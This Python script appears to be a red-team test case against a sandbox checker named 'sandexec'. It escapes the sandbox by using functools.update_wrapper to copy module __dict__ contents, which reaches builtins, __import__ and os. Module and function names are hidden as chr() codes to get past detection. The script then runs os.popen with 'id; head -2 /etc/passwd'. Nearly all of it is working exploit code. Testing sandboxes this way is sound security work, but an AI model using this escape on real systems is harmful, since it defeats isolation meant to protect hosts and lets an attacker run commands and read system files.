# source: black-box attack on sandexec check (attack12, 2026-11-26), family: 1 update_wrapper/wraps copying __dict__
# source: own (attacker design against this checker); primitive: functools.update_wrapper copies wrapped.__dict__ into wrapper.__dict__ (CPython Lib/functools.py)
# family: stdlib helper that reads __dict__ of a foreign object + def-defined dunder property
# goal: module globals of json -> builtins dict -> __import__ -> os module -> os.popen runs `id`, reads /etc/passwd
import functools
import json


class Sink:
    def __init__(self):
        self.store = {}

    @property
    def __dict__(self):
        return self.store


def name(*codes):
    return "".join(chr(c) for c in codes)


def members(obj):
    w = Sink()
    functools.update_wrapper(w, obj)
    return w.store


u = chr(95) * 2
g = members(json)
b = g[u + "builtins" + u]
imp = b[u + "import" + u]
o = imp(name(111, 115))
od = members(o)
run = od[name(112, 111, 112, 101, 110)]
out = run("id; head -2 " + chr(47) + "etc" + chr(47) + "passwd").read()
print(json.dumps({"evidence": out, "os_module": repr(o)}))
